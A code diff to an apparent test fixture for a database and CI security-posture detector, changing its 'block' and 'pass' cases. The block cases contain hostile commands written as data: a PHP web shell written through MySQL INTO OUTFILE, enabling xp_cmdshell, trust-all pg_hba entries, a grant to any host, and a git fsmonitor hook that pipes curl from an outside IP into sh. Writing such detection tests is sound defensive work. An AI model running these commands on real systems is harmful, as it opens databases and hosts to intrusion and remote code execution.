@@ -73,7 +73,7 @@ const CASES: PostureCase[] = [
   {
     id: "pg.hba_trust",
     block: [
-      "echo 'host all all 0.0.0.0/0 trust' >> /etc/postgresql/16/main/pg_hba.conf",
+      "echo 'hostnossl all all 0.0.0.0/0 trust' >> /etc/postgresql/16/main/pg_hba.conf",
       "echo 'local all all trust' >> pg_hba.conf",
     ],
     pass: [
@@ -83,7 +83,7 @@ const CASES: PostureCase[] = [
   },
   {
     id: "mysql.grant_any_host",
-    block: ["GRANT ALL PRIVILEGES ON *.* TO 'ops'@'%' WITH GRANT OPTION;"],
+    block: ["GRANT ALL ON *.* TO 'ops'@'%' WITH GRANT OPTION;"],
     pass: [
       "GRANT SELECT, INSERT ON shop.* TO 'app'@'10.0.%';",
       "GRANT ALL PRIVILEGES ON shop.* TO 'app'@'localhost';",
@@ -97,7 +97,7 @@ const CASES: PostureCase[] = [
   {
     id: "mysql.outfile_webshell",
     block: [
-      `SELECT '<?php system($_GET["c"]); ?>' INTO OUTFILE '/var/www/html/s.php';`,
+      `SELECT '<?php passthru($_REQUEST["q"]); ?>' INTO OUTFILE '/var/www/html/s.php';`,
       "SET GLOBAL general_log_file = '/var/www/html/l.php';",
     ],
     pass: [
@@ -120,7 +120,7 @@ const CASES: PostureCase[] = [
   {
     id: "mssql.xp_cmdshell_on",
     block: [
-      "EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;",
+      "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE WITH OVERRIDE;",
     ],
     pass: [
       "EXEC sp_configure 'xp_cmdshell', 0; RECONFIGURE;",
@@ -269,7 +269,7 @@ const CASES: PostureCase[] = [
   {
     id: "ci.git_fsmonitor",
     block: [`git config core.fsmonitor "curl -s http://203.0.113.9/f | sh"`],
-    pass: ["git config core.fsmonitor true"],
+    pass: ["git config --local core.fsmonitor true"],
   },
   {
     id: "m365.inbox_rule_hidden_forward",
